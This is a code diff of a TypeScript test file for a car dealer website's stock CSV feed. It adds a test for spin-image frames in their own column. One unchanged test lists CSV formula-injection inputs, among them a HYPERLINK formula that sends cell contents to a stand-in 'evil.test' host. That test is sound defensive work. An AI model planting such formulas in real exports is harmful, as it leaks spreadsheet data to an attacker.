@@ -9,6 +9,7 @@ import { demoStock } from '#demo/demo-stock.ts';
 import type { Car, NewCar } from '#domain/cars/car.ts';
 import { canonicalMake } from '#domain/cars/make-aliases.ts';
 import { isForSale } from '#domain/cars/card-tag.ts';
+import { isSpinFrame } from '#domain/cars/spin-frames.ts';
 import { whyNotVisible } from '#domain/cars/visibility.ts';
 import { importContext } from '#domain/imports/import-context.ts';
 import { NO_MAPPING } from '#domain/imports/mapping.ts';
@@ -69,6 +70,18 @@ describe('the stock as a table', () => {
     const text = await (await stockCsv(asked('/feeds/stock.csv'), site)).text();
     const [car] = await collect(site.stock.all());
     expect(text).toBe(`"Stock No","Ask","Link"\r\n"S1","45990","${site.origin}/cars/${car!.slug}"\r\n`);
+  });
+
+  it('names the frames of a turn in a column of their own', async () => {
+    const pictureOf = (url: string) => ({ image: { url }, thumb: url, view: null });
+    const frames = Array.from({ length: 8 }, (_, at) => ({
+      ...pictureOf(`/${at}.webp`),
+      kind: 'spin' as const,
+    }));
+    const site = await siteWith([sampleCar('S1', { images: [...frames, pictureOf('/a.webp')] })]);
+    const [row] = await rowsOf(await stockCsv(asked('/feeds/stock.csv'), site));
+    expect(row?.get('images')).toBe(`${site.origin}/a.webp`);
+    expect(String(row?.get('spin_images')).split('|')).toHaveLength(8);
   });
 
   it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '=HYPERLINK("http://evil.test?"&A1,"x")', '＝1'])(
@@ -155,10 +168,11 @@ function isFed(car: Car, website: Website): boolean {
 /** Addresses leave the site whole, a make in the one spelling that is shown. */
 function whole(car: Car, origin: string): NewCar {
   const address = (url: string) => (url.startsWith('/') ? origin + url : url);
-  const images = car.images.map(({ image }) => ({
-    image: { url: address(image.url) },
-    thumb: address(image.url),
+  const images = car.images.map((picture) => ({
+    image: { url: address(picture.image.url) },
+    thumb: address(picture.image.url),
     view: null,
+    ...(isSpinFrame(picture) && { kind: 'spin' as const }),
   }));
   const primary_image_url = car.primary_image_url && address(car.primary_image_url);
   const make = canonicalMake(car.make);
